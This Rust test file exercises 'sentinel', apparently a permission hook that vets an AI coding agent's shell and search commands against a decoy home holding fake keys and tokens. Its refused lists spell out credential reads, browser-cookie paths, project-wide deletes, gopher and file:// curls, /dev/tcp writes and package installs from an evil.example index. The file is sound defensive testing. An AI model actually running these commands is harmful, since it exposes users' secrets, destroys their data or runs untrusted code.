//! Classes of wrong allows, each closed as a principle, through `sentinel
//! hook` on a real file system: a project with a `config/.env`, a link to the decoy home's
//! `.ssh`, and a home with credentials. Each class has the examples, neighbours of our
//! own (other spellings and programs), and the everyday forms nearby that stay allowed. The
//! scratch dirs live under the target dir, never in /tmp (temp dirs are scratch space to
//! sentinel, which would change the answers).

// Its fixtures make links, modes or Unix processes: run on Unix; on Windows only the
// library and binary are type-checked (release/check-windows.sh).
#![cfg(unix)]

mod common;

use serde_json::json;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

struct World {
    _root: tempfile::TempDir,
    home: PathBuf,
    project: PathBuf,
    sentinel_home: PathBuf,
}

impl World {
    fn new() -> World {
        let root = common::scratch("wrong-allows");
        let base = root.path().canonicalize().unwrap();
        let home = base.join("home/dev");
        let project = home.join("proj");
        let sentinel_home = base.join("sentinel-home");
        for d in [
            home.join(".ssh"),
            home.join(".config/gh"),
            home.join(".claude"),
            project.join("src"),
            project.join("config"),
            project.join("public/img"),
            project.join("dist"),
            project.join("linked"),
            project.join(".git"),
            sentinel_home.clone(),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(home.join(".ssh/id_ed25519"), "key").unwrap();
        std::fs::write(home.join(".config/gh/hosts.yml"), "oauth_token: x").unwrap();
        std::fs::write(home.join(".claude/.credentials.json"), "{}").unwrap();
        std::fs::write(project.join("src/main.rs"), "// TODO").unwrap();
        std::fs::write(project.join("config/.env"), "TOKEN=x").unwrap();
        std::fs::write(project.join(".env.example"), "TOKEN=").unwrap();
        std::fs::write(project.join("public/index.html"), "<p>").unwrap();
        std::fs::write(project.join(".gitignore"), "dist/\n*.pyc\n").unwrap();
        symlink(home.join(".ssh"), project.join("linked/keys")).unwrap();
        common::let_fixtures_age(&project);
        World {
            _root: root,
            home,
            project,
            sentinel_home,
        }
    }

    /// Tier 1's answer for one tool call made in the project, as `verdict: reason`.
    fn decide(&self, tool: &str, input: serde_json::Value, env: &[(&str, &str)]) -> String {
        let event = json!({
            "session_id": "s1",
            "hook_event_name": "PreToolUse",
            "cwd": self.project,
            "permission_mode": "bypassPermissions",
            "tool_name": tool,
            "tool_input": input,
        });
        let mut cmd = common::sentinel(&self.sentinel_home);
        cmd.arg("hook").env("HOME", &self.home);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = common::feed(cmd, event.to_string().as_bytes());
        assert!(out.status.success(), "{out:?}");
        common::verdict_and_reason(&out)
    }

    fn bash(&self, command: &str) -> String {
        self.decide("Bash", json!({ "command": command }), &[])
    }

    /// Every command is not allowed, and its reason mentions `why`.
    fn refused(&self, commands: &[&str], why: &str) {
        common::assert_refused(|c| self.bash(c), commands, why);
    }

    fn allowed(&self, commands: &[&str]) {
        common::assert_allowed(|c| self.bash(c), commands);
    }
}

#[test]
fn a_default_operand_is_an_operand() {
    let w = World::new();
    w.refused(
        &[
            "find -delete",
            "find -mindepth 1 -delete",
            "find -path '*/.git/*' -delete",
            "find -type f -delete",
            "find -L -delete",
            "fd -t f -X rm",
        ],
        "",
    );
    w.refused(&["find -delete", "find . -delete"], "the whole project");
    w.refused(&["find -mindepth 1 -delete"], "may be every entry there");
    // `grep -r PAT`, `rg --hidden PAT`, `ag --hidden PAT` with no path read `.`, which holds
    // `config/.env` (without `--hidden`, rg and ag skip it: `rules/file_types.txt`).
    w.refused(
        &[
            "grep -R TOKEN",
            "grep -r TOKEN",
            "grep -rn TOKEN",
            "rg --hidden TOKEN",
            "ag --hidden TOKEN",
            "ack TOKEN",
        ],
        "config/.env",
    );
    w.allowed(&[
        "grep -rn TODO src",
        "grep TODO src/main.rs",
        "rg TODO src",
        "find src -name '*.rs'",
    ]);
}

#[test]
fn tree_reads_follow_the_links_their_options_follow() {
    let w = World::new();
    // `linked/keys` points at ~/.ssh: the options that follow it read through it.
    w.refused(
        &[
            "grep -R x linked",
            "grep --dereference-recursive x linked",
            "rg -L x linked",
            "rg --follow x linked",
            "tar -h -czf x.tgz linked",
            "tar --dereference -czf x.tgz linked",
            "zip -r x.zip linked",
            "zip -qr x.zip linked",
            "cp -rL linked out",
            "find -L linked -name '*'",
        ],
        "leads to",
    );
    // Without the following options the link itself is read, not what it points to.
    w.allowed(&[
        "grep -r x linked",
        "rg x linked",
        "tar czf x.tgz linked",
        "zip -ry x.zip linked",
        "zip -r -y x.zip linked",
        "zip -r site.zip public",
        "tar czf dist.tgz dist",
    ]);
}

#[test]
fn recursive_reads_are_judged_by_every_credential_under_them() {
    let w = World::new();
    w.refused(
        &[
            "grep -rn token ~/.config",
            "grep -rn accessToken ~/.claude",
            "tar czf x.tgz ~/.claude",
            "zip -r x.zip ~/.config",
            "cp -a ~/.config ./x",
            "grep -r BEGIN /etc/ssl",
            "rg -i secret ~/.config",
            "grep -rl token ~/.claude/",
        ],
        "holds credentials",
    );
    w.refused(
        &["grep -r = config", "grep -r TOKEN .", "rg -uu TOKEN config"],
        "config/.env",
    );
    w.refused(
        &["cp -a ~/.config/gh ./x", "tar czf gh.tgz ~/.config/gh"],
        "credential",
    );
    w.allowed(&["grep -rn TODO src", "grep -r x public", "rg TODO public"]);
    // rg skips hidden files unless told otherwise: a `.env` below is not read.
    w.allowed(&["rg TOKEN", "rg TOKEN config", "rg --files"]);
    w.refused(
        &["rg --hidden TOKEN", "rg -uu TOKEN", "rg -. TOKEN config"],
        "config/.env",
    );
}

#[test]
fn grep_glob_and_ls_get_the_tree_check() {
    let w = World::new();
    let home = w.home.display().to_string();
    for (tool, path) in [
        ("Grep", home.clone()),
        ("Grep", "..".to_string()),
        ("Grep", "/".to_string()),
        ("Grep", format!("{home}/.config")),
        ("Grep", format!("{home}/.claude")),
        ("Glob", format!("{home}/.config")),
        ("LS", home.clone()),
    ] {
        let a = w.decide(tool, json!({ "pattern": "token", "path": path }), &[]);
        assert!(a.starts_with("ask"), "{tool} {path}: {a}");
    }
    let a = w.decide("Grep", json!({ "pattern": "TODO", "path": "src" }), &[]);
    assert!(!a.starts_with("ask"), "{a}");
}

#[test]
fn grep_asks_for_a_credential_file_it_would_read_below_the_folder_it_searches() {
    let w = World::new();
    // Only `config/.env` so far: hidden, so rg (and Claude Code's Grep) does not read it.
    for input in [
        json!({ "pattern": "TOKEN" }),
        json!({ "pattern": "TOKEN", "path": "config" }),
    ] {
        let a = w.decide("Grep", input.clone(), &[]);
        assert!(a.starts_with("allow"), "{input}: {a}");
    }
    // A key git neither ignores nor tracks: read by the search, so it asks, with or without a
    // path and with a file filter.
    std::fs::write(w.project.join("config/master.key"), "k").unwrap();
    for input in [
        json!({ "pattern": "TOKEN" }),
        json!({ "pattern": "TOKEN", "path": "config" }),
        json!({ "pattern": "TOKEN", "glob": "*.yml" }),
    ] {
        let a = w.decide("Grep", input.clone(), &[]);
        assert!(
            a.starts_with("ask") && a.contains("config/master.key"),
            "{input}: {a}"
        );
    }
    assert!(
        w.decide("Grep", json!({ "pattern": "TODO", "path": "src" }), &[])
            .starts_with("allow")
    );
    // Ignored: rg skips it.
    std::fs::write(
        w.project.join(".gitignore"),
        "dist/\n*.pyc\nconfig/master.key\n",
    )
    .unwrap();
    let a = w.decide("Grep", json!({ "pattern": "TOKEN" }), &[]);
    assert!(a.starts_with("allow"), "{a}");
    // Tracked: it is in the repository, which the agent reads anyway.
    std::fs::write(w.project.join(".gitignore"), "dist/\n").unwrap();
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(&w.project)
            .env("HOME", &w.home)
            .output()
            .is_ok_and(|o| o.status.success());
        assert!(ok, "git {args:?}");
    };
    std::fs::remove_dir_all(w.project.join(".git")).unwrap();
    git(&["init", "-q"]);
    git(&["add", "config/master.key"]);
    let a = w.decide("Grep", json!({ "pattern": "TOKEN" }), &[]);
    assert!(a.starts_with("allow"), "{a}");
}

#[test]
fn options_that_delete_or_write_are_typed_so() {
    let w = World::new();
    w.refused(
        &[
            "tar czf x.tgz src --remove-files",
            "tar --remove-files -czf x.tgz src",
            "tar czf x.tgz ~/Documents --remove-files",
            "gzip ~/notes.txt",
            "gzip -k ~/notes.txt",
            "xz ../sibling/data.csv",
            "gunzip ../x.gz",
            "gzip -r src",
            "git restore --pathspec-from-file list.txt",
            "git rm --pathspec-from-file list.txt",
            "git gc --prune=now",
            "zip -m x.zip ../sibling/file",
            "zip -m -y x.zip ../sibling/file",
        ],
        "",
    );
    w.allowed(&[
        "tar czf dist.tgz dist",
        "gzip -c src/main.rs",
        "gzip -k src/main.rs",
        "tar czf d.tgz dist --remove-files",
    ]);
}

#[test]
fn the_credential_list_knows_more_places() {
    let w = World::new();
    for p in [
        "~/.config/hub",
        "~/.config/glab-cli/config.yml",
        "~/.wrangler/config/default.toml",
        "~/.config/stripe/config.toml",
        "~/.cache/huggingface/token",
        "~/.kaggle/kaggle.json",
        "~/.databrickscfg",
        "~/.sentryclirc",
        "~/.config/ngrok/ngrok.yml",
        "~/.supabase/access-token",
        "~/.pip/pip.conf",
        "~/.config/sops/age/keys.txt",
        "keys/AuthKey_ABC123.p8",
        "deploy_key",
        "~/.ssh/id_rsa.bak",
        "backup/id_ed25519.old",
        "/etc/kubernetes/admin.conf",
        "/etc/rancher/k3s/k3s.yaml",
        "/etc/mysql/debian.cnf",
        "/etc/wireguard/wg0.conf",
        ".dev.vars",
        "serviceAccountKey.json",
        "ServiceAccountKey.JSON",
        ".env-production",
        "~/.config/google-chrome/Default/Cookies",
        "~/.mozilla/firefox/x.default/cookies.sqlite",
        "~/.claude/.credentials.json",
        "~/.config/gh/config.yml",
    ] {
        w.refused(&[&format!("cat {p}")], "credential");
    }
    w.allowed(&[
        "cat ~/.ssh/id_ed25519.pub",
        "cat .env.example",
        "cat deploy_key.pub",
    ]);
}

#[test]
fn find_deletes_what_its_tests_pick_and_the_project_itself_is_denied() {
    let w = World::new();
    std::fs::write(w.project.join("src/a.pyc"), "").unwrap();
    std::fs::write(w.project.join(".git/config"), "[core]").unwrap();
    // With nothing to narrow it, a delete of the project, however spelled, is denied (as
    // `rm -rf .` is), and the reason says so.
    for c in [
        "find -delete",
        "find . -delete",
        "find ../proj -delete",
        "rm -rf ../proj",
        "rm -r ../proj/",
        "rm -fr \"$PWD\"",
        "rm -rf ~/proj",
    ] {
        let a = w.bash(c);
        assert!(a.starts_with("deny"), "{c}: {a}");
        assert!(a.contains("the whole project"), "{c}: {a}");
    }
    // A checkout under /tmp puts the scratch home in a temp dir, which sentinel reads as such.
    let home_cache_reason = if ["/tmp/", "/var/tmp/", "/dev/shm/"]
        .iter()
        .any(|t| w.home.starts_with(t))
    {
        "in a temp dir"
    } else {
        "outside the project"
    };
    // A test narrows the delete to what it picks below the starting point: the reason names
    // the pick, never the whole project.
    for (c, why) in [
        ("find . -type f -delete", "`-type f` picks below"),
        ("find -mindepth 1 -delete", "`-mindepth 1` picks below"),
        (
            "find . -newer src/main.rs -delete",
            "`-newer src/main.rs` picks",
        ),
        ("find . ! -name '*.rs' -delete", "with `!`"),
        ("find . -not -name '*.rs' -delete", "`-not -name *.rs`"),
        ("find -path '*/.git/*' -delete", "`-path */.git/*`"),
        (
            "find . -name config -delete",
            ".git/config, a protected place",
        ),
        (
            "find . -iname CONFIG -delete",
            ".git/config, a protected place",
        ),
        ("find . -name '*.pack' -delete", "git's object store"),
        ("find ../proj -name 'pro*' -delete", "the whole project"),
        ("find -L . -name id_ed25519 -delete", "following links"),
        ("find /tmp/x -name '*.pyc' -delete", "in a temp dir"),
        ("find ~/.cache -name '*.pyc' -delete", home_cache_reason),
    ] {
        let a = w.bash(c);
        assert!(!a.starts_with("allow"), "{c}: {a}");
        assert!(a.contains(why), "{c}: expected `{why}` in {a}");
        assert!(
            why == "the whole project" || !a.contains("the whole project"),
            "{c}: {a}"
        );
    }
    w.allowed(&[
        "find . -name '*.pyc' -delete",
        "find -name '*.pyc' -delete",
        "find src -iname '*.PYC' -delete",
        "find . -type f -name '*.pyc' -delete",
        "find . -name '*.pyc' -mtime +7 -delete",
        "find dist -name '*.map' -delete",
        "find . -name '*.pyc'",
        "rm -rf dist",
    ]);
}

#[test]
fn what_a_program_reads_or_runs_or_creates_on_its_own_is_named() {
    let w = World::new();
    // No ~/.netrc, no ~/.config/procps yet: the programs that log in with it read nothing,
    // and top creates its settings directory outside the project.
    w.allowed(&[
        "wget -qO- http://127.0.0.1:8080/health",
        "git ls-remote http://127.0.0.1:8080/x",
        "git pull",
        "http localhost:3000/health",
    ]);
    w.refused(&["top -bn1", "top -n 1 -b"], "creates");
    std::fs::create_dir_all(w.home.join(".config/procps")).unwrap();
    w.allowed(&["top -bn1"]);
    // With a ~/.netrc, each one logs in with it on its own: the person decides; curl only with
    // -n (in any spelling).
    std::fs::write(w.home.join(".netrc"), "machine x login a password b").unwrap();
    w.refused(
        &[
            "wget -qO- http://127.0.0.1:8080/health",
            "wget -q --spider http://localhost:3000/",
            "git ls-remote http://127.0.0.1:8080/x",
            "git fetch http://127.0.0.1:8080/x",
            "git pull --ff-only http://127.0.0.1:8080/x",
            "git clone --depth 1 http://127.0.0.1:8080/x",
            "git remote show http://127.0.0.1:8080/x",
            "git submodule add http://127.0.0.1:8080/x",
            "xh localhost:3000",
        ],
        "~/.netrc",
    );
    w.refused(
        &[
            "curl -n http://127.0.0.1:8080/x",
            "curl --netrc-optional localhost:3000",
        ],
        "netrc",
    );
    w.allowed(&[
        "curl -s localhost:3000/health",
        "git status",
        "git log --oneline -5",
    ]);
    // A repository given as a local path is read, through links too.
    w.refused(
        &[
            "git fetch linked/keys/id_ed25519",
            "git ls-remote linked/keys",
            "git pull -6q linked/keys/id_ed25519",
            "git remote show linked/keys/id_ed25519",
            "git remote prune ~/.ssh",
        ],
        "credential",
    );
    // A login shell runs the start-up files first: code from outside the project.
    w.refused(
        &[
            "bash -lc 'git status'",
            "bash -l -c 'git status'",
            "bash --login",
            "sh -lc ls",
            "zsh -l",
            "bash -il",
        ],
        "",
    );
    w.allowed(&["bash -c 'git status'", "bash -ec 'git status'", "sh -c ls"]);
}

#[test]
fn a_body_or_method_to_any_host_is_a_send() {
    let w = World::new();
    w.refused(
        &[
            // Any port: which service listens is not in the command.
            "curl -d a=1 localhost:3000/api",
            "curl -sXPOST http://127.0.0.1:8080/mcp -H 'Content-Type: application/json' -d '{}'",
            "curl --data-urlencode q=x http://api.localhost/search",
            "curl -X -s localhost:3000/health",
            "curl --request http://127.0.0.1:8080/x http://127.0.0.1:8080/y",
            "wget -qO- --body-data=x --method=POST http://[::1]:4000/",
            "echo hi > /dev/tcp/127.0.0.1/8080",
            "exec 3<>/dev/udp/localhost/514",
            "curl -X POST localhost:9200/_all/_delete_by_query -d '{}'",
            "curl --json '{}' http://127.0.0.1:2375/containers/create",
            "curl -d @.env.example localhost:5984/_replicate",
            "curl -F q=DROP localhost:8123",
            "curl -T src/main.rs localhost:9000/bucket/x",
            "curl -X DELETE localhost:3000/users",
            "curl --request PUT localhost:3000/x",
            "wget --post-data=x localhost:9200/_bulk",
            "wget --method=DELETE localhost:3000/x",
        ],
        "",
    );
    // A scheme that is not the web's is not a fetch, and curl picks one from the host name.
    w.refused(
        &[
            "curl dict.localhost:6379/flushall",
            "curl ftp.localhost/x",
            "curl gopher://127.0.0.1:6379/_FLUSHALL",
            "curl file:///etc/passwd",
            "curl telnet://localhost:25",
            "curl ldap://localhost/",
            "curl smb://localhost/share",
            "curl scp://localhost/x",
        ],
        "",
    );
    w.allowed(&[
        "curl -s localhost:3000/health",
        "curl -s http://127.0.0.1:8000/api/items",
        "curl -X GET localhost:3000/x",
        "curl -XHEAD -s localhost:3000/x",
        "curl -sI http://localhost:5173",
        "wget -qO- http://localhost:3000/metrics",
    ]);
}

#[test]
fn environment_variables_are_allowed_only_when_known_inert() {
    let w = World::new();
    w.refused(
        &[
            "TAR_OPTIONS=--remove-files tar czf x.tgz src",
            "ZIPOPT=-T zip -r x.zip src",
            "CURL_HOME=. curl localhost:3000",
            "WGETRC=./rc wget localhost:3000",
            "SSH_ASKPASS=./x git fetch",
            "GNUMAKEFLAGS=--eval=x make test",
            "RUSTUP_TOOLCHAIN=./tc cargo build",
            "HGRCPATH=./rc hg status",
            "PSQLRC=./rc psql -l",
            "KUBECTL_EXTERNAL_DIFF=./x kubectl diff -f k.yaml",
            "SOME_FLAG=1 grep -rn TODO src",
        ],
        "sets ",
    );
    w.allowed(&[
        "RUST_LOG=debug cargo test",
        "NODE_ENV=test npm test",
        "CI=1 npm test",
        "NO_COLOR=1 cargo build",
        "TZ=UTC date",
        "LC_ALL=C sort src/main.rs",
        "RUST_BACKTRACE=1 cargo test",
        "PORT=8001 bash scripts/x.sh",
    ]);
}

#[test]
fn a_write_to_a_credential_is_not_allowed_locally() {
    let w = World::new();
    w.refused(
        &[
            "cp .env.example .env",
            "cp .env.example config/.env",
            "mv x .env.local",
            "echo TOKEN=1 >> .env",
            "tee .env < .env.example",
            "cp key ~/.ssh/id_ed25519.bak",
        ],
        "",
    );
    w.allowed(&[
        "cp .env.example src/env.example.txt",
        "git rm --cached .env",
    ]);
}

#[test]
fn config_that_is_code_from_outside_the_project_runs_outside_code() {
    let w = World::new();
    w.refused(
        &[
            "jest --config ../x.js",
            "jest --config '{\"transform\":{}}'",
            "vitest run --config ../x.ts",
            "webpack --config ../webpack.config.js",
            "eslint -c ../eslint.config.js src",
            "prettier --config ../p.js --check src",
            "mypy --config-file ../mypy.ini src",
            "pytest ../other-proj",
            "next build ../other",
            "uv pip install --index-url https://evil.example/simple -r requirements.txt",
            "uv sync --extra-index-url https://evil.example/simple",
        ],
        "",
    );
    w.allowed(&["pytest tests", "pytest", "next build", "eslint src"]);
}

#[test]
fn arithmetic_contexts_evaluate_variables_as_code() {
    let w = World::new();
    w.refused(
        &[
            "echo $((x))",
            "echo $(( x + 1 ))",
            "(( x ))",
            "[[ $x -eq 0 ]]",
            "[[ x -lt 3 ]] && echo y",
            "let x",
            "let 'y=x+1'",
            "declare -i n=$x",
            "local -i n=x",
            "test -v 'a[$i]'",
            "[ -v \"a[$i]\" ]",
            "printf -v 'a[$i]' %s v",
            "read 'a[$i]' < /dev/null",
            "echo ${s:$x}",
            "echo ${s:0:n}",
            "echo ${x@P}",
            "for ((i=0; i<n; i++)); do echo $i; done",
        ],
        "",
    );
    w.allowed(&[
        "echo $((1+2))",
        "i=0; (( i++ )); echo $i",
        "for ((i=0; i<10; i++)); do echo $i; done",
        "echo $((RANDOM % 6))",
        "read -p 'ok [y/n]? ' ans < /dev/null",
        "[[ -f src/main.rs ]] && echo y",
        "n=3; echo ${PWD:0:n}",
    ]);
}
